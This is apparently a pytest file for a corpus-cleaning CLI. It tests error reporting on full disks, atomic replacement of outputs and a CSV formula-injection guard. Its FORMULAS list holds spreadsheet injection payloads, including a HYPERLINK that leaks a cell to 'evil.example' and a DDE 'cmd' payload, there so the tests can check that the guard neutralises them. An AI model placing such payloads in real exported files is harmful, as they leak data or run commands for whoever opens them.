"""Issue 15, output safety: a failed write is an error naming the file, outputs are replaced
all together or not at all, and CSV cells cannot start a spreadsheet formula.

The interface these tests fix (the fix follows it):

* Every output (``-o``, ``--report``, ``--html``, ``--rejects``, ``--stats``) is written to its
  temp file; they are renamed only when every one is complete. On any error none is replaced
  and no temp file (``.NAME.*.tmp``) is left.
* A failed write (ENOSPC, EFBIG, EIO; a short write on stdout counts, it is retried and then
  fails) is exit 1 and one line ``papercorpus: error: PATH: REASON`` with the user's spelling
  of the path (``-`` / stdout for stdout), whatever ``-j``; never "internal error", never the
  temp file's name. A broken pipe stays quiet (tests/test_cli.py::test_broken_pipe_is_quiet).
* CSV output guards formula injection as OWASP recommends: a cell whose first character is
  ``=``, ``+``, ``-``, ``@``, TAB or CR gets a ``'`` prefix, every column included; on by
  default, ``--no-csv-guard`` turns it off, and ``clean --help`` lists that option. JSONL is
  never changed.

Full disks are a small tmpfs mounted in a private mount namespace (``unshare -rm``); the tests
skip when that is not possible. ``RLIMIT_FSIZE`` (EFBIG past the limit, with SIGXFSZ ignored)
is the fake writer that works everywhere: it fails the first write past the limit of *any*
file, so those inputs are made of exact duplicates with a long file name, which make a large
output from a tiny spill.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from .safety_tools import (
    GOOD_LINE,
    Tmpfs,
    assert_one_line_error,
    digest,
    invoke,
    jsonl_rows,
    run,
    small_raw_filter,
    temp_outputs,
    tmpfs_reason,
    write_corpus,
)

PREVIOUS = "previous output\n"


def _tmpfs_or_skip() -> None:
    reason = tmpfs_reason()
    if reason:
        pytest.skip(reason)


@pytest.fixture(autouse=True)
def _fast(monkeypatch):
    small_raw_filter(monkeypatch)


@pytest.fixture
def work(tmp_path) -> Path:
    d = tmp_path / "work"
    d.mkdir()
    return d


def _run_in(work: Path, fs: Tmpfs, args: list[str], stdout_in_tmpfs: str | None = None):
    prefix, env = fs.prefix(stdout_in_tmpfs)
    return run(["clean", *args], cwd=work, tmpdir=work.parent / "tmp", prefix=prefix,
               env_extra=env, timeout=120)  # fmt: skip


# --------------------------------------------------------------------------- full disk (tmpfs)


def test_stdout_to_a_full_disk_is_an_error(work):
    _tmpfs_or_skip()
    write_corpus(work / "in.jsonl", records=1500, seed=11)  # ~1.3 MB of output
    fs = Tmpfs(work / "small", size="1m")
    r = _run_in(work, fs, ["in.jsonl", "-o", "-", "-q"], str(fs.mnt / "out.jsonl"))
    assert_one_line_error(r, 1, "No space left on device")


def test_output_file_on_a_full_disk_names_it(work):
    _tmpfs_or_skip()
    write_corpus(work / "in.jsonl", records=1500, seed=11)
    fs = Tmpfs(work / "small", size="1m")
    fs.prepare()
    (fs.stage / "out.jsonl").write_text(PREVIOUS)
    r = _run_in(work, fs, ["in.jsonl", "-o", "small/out.jsonl", "-j", "2", "-q"])
    assert_one_line_error(r, 1, "small/out.jsonl", "No space left on device")
    assert (fs.snapshot / "out.jsonl").read_text() == PREVIOUS
    assert temp_outputs(fs.snapshot) == []


def _mixed_input(work: Path) -> Path:
    """Two papers, one of them twice (so the cluster report has a cluster), and three bad
    lines (so the rejects file has content)."""
    path = write_corpus(work / "in.jsonl", records=2, seed=12, duplicates=1)
    with path.open("a") as fh:
        fh.write("not json {\n[1, 2\n{'broken': \n")
    return path


SIDE_OUTPUTS = [
    ("--rejects", "rejects.jsonl"),
    ("--stats", "stats.json"),
    ("--report", "clusters.jsonl"),
    ("--html", "review.html"),
]


@pytest.mark.parametrize("option,name", SIDE_OUTPUTS)
def test_failed_side_output_replaces_nothing(work, option, name):
    _tmpfs_or_skip()
    _mixed_input(work)
    (work / "main.jsonl").write_text(PREVIOUS)
    (work / "other.json").write_text(PREVIOUS)
    fs = Tmpfs(work / "small", size="1m", fill=True)
    side = "--stats" if option != "--stats" else "--report"  # a second side output that works
    r = _run_in(work, fs, ["in.jsonl", "-j", "1", "-q", "-o", "main.jsonl",
                           option, f"small/{name}", side, "other.json"])  # fmt: skip
    assert (work / "main.jsonl").read_text() == PREVIOUS
    assert (work / "other.json").read_text() == PREVIOUS
    assert temp_outputs(work) == []
    assert_one_line_error(r, 1, f"small/{name}")


def test_failed_main_output_replaces_no_side_output(work):
    _tmpfs_or_skip()
    _mixed_input(work)
    for name in ("clusters.jsonl", "stats.json", "rejects.jsonl"):
        (work / name).write_text(PREVIOUS)
    fs = Tmpfs(work / "small", size="1m", fill=True)
    r = _run_in(work, fs, ["in.jsonl", "-j", "1", "-q", "-o", "small/out.jsonl",
                           "--report", "clusters.jsonl", "--stats", "stats.json",
                           "--rejects", "rejects.jsonl"])  # fmt: skip
    assert r.returncode == 1, r.describe()
    for name in ("clusters.jsonl", "stats.json", "rejects.jsonl"):
        assert (work / name).read_text() == PREVIOUS, name
    assert temp_outputs(work) == [] and temp_outputs(fs.snapshot) == []


# --------------------------------------------------------------------------- file size limit


FSIZE = 512_000
LONG_NAME = "d" * 190 + ".jsonl"


def _duplicates(work: Path) -> Path:
    """8,000 lines, 4 distinct papers: ~2 MB of output (each copy is a source naming this
    190-character file), under 300 KB of spill (the first batch of copies)."""
    lines = [
        json.dumps({"title": f"Paper number {i} about things",
                    "abstract": f"An abstract number {i} with quite enough words in it to count."})
        for i in range(4)
    ]  # fmt: skip
    path = work / LONG_NAME
    path.write_text("\n".join(lines[i % 4] for i in range(8000)) + "\n")
    return path


def test_short_write_on_stdout_is_an_error(work):
    _duplicates(work)
    r = run(["clean", LONG_NAME, "-o", "-", "-q"], cwd=work, tmpdir=work.parent / "tmp",
            stdout=work.parent / "stdout.jsonl", fsize_bytes=FSIZE)  # fmt: skip
    assert_one_line_error(r, 1, "File too large")


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_output_past_the_file_size_limit_names_the_file(work, jobs):
    _duplicates(work)
    (work / "out.jsonl").write_text(PREVIOUS)
    r = run(["clean", LONG_NAME, "-o", "out.jsonl", "-j", jobs, "-q"], cwd=work,
            tmpdir=work.parent / "tmp", fsize_bytes=FSIZE)  # fmt: skip
    assert_one_line_error(r, 1, "out.jsonl", "File too large")
    assert (work / "out.jsonl").read_text() == PREVIOUS
    assert temp_outputs(work) == []


def test_stdout_on_dev_full_is_an_error(work):
    write_corpus(work / "in.jsonl", records=3, seed=13)
    r = run(["clean", "in.jsonl", "-o", "-", "-j", "1", "-q"], cwd=work, stdout=Path("/dev/full"))
    assert_one_line_error(r, 1, "No space left on device")


# --------------------------------------------------------------------------- CSV formula guard


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the paper")',
    "+cmd|' /C calc'!A0 and a title that goes on",
    "-2+3 is a title starting with a minus sign",
    "@SUM(1+1) counts as a formula in some spreadsheets",
    "\t=1+1 hides behind a tab that is collapsed away",
]


def _formula_input(work: Path, name: str = "in.jsonl") -> Path:
    lines = [
        json.dumps({"title": t, "abstract": f"{t[:12]} abstract number {i} has enough words."})
        for i, t in enumerate(FORMULAS)
    ]  # fmt: skip
    lines.append(GOOD_LINE)
    path = work / name
    path.write_text("\n".join(lines) + "\n")
    return path


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def _clean_to_csv(work: Path, *extra: str, name: str = "in.jsonl") -> list[dict[str, str]]:
    r = invoke(["clean", "-j", "1", name, "-o", "out.csv", *extra], cwd=work)
    assert r.returncode == 0, r.describe()
    return _csv_rows((work / "out.csv").read_bytes())


def test_csv_cells_cannot_start_a_formula(work):
    _formula_input(work)
    rows = _clean_to_csv(work)
    assert len(rows) == len(FORMULAS) + 1
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    titles = {row["title"] for row in rows}
    for t in FORMULAS:
        assert "'" + " ".join(t.split()) in titles  # whitespace collapsed, then guarded


def test_csv_guard_covers_every_column(work):
    """Every column is guarded; the sources column is JSON (issue 13), so a file named ``=x``
    stays inside it, and no other cell starts a formula either."""
    _formula_input(work, "=x.jsonl")
    rows = _clean_to_csv(work, name="=x.jsonl")
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        assert [s["file"] for s in json.loads(row["sources"])] == ["=x.jsonl"]


def test_no_csv_guard_writes_cells_as_they_are(work):
    _formula_input(work)
    rows = _clean_to_csv(work, "--no-csv-guard")
    assert {row["title"] for row in rows} >= {" ".join(t.split()) for t in FORMULAS}


def test_csv_guard_is_documented(work):
    r = invoke(["clean", "--help"], cwd=work)
    assert "--no-csv-guard" in r.stdout.decode()


def test_ordinary_csv_cells_and_jsonl_are_unchanged(work):
    _formula_input(work)
    rows = _clean_to_csv(work)
    good = json.loads(GOOD_LINE)
    assert any(
        row["title"] == good["title"] and row["abstract"] == good["abstract"] for row in rows
    )
    r = invoke(["clean", "-j", "1", "in.jsonl", "-o", "out.jsonl"], cwd=work)
    assert r.returncode == 0, r.describe()
    titles = {row["title"] for row in jsonl_rows((work / "out.jsonl").read_bytes())}
    assert titles == {" ".join(t.split()) for t in FORMULAS} | {good["title"]}
    assert digest(work / "in.jsonl")  # the input is still there
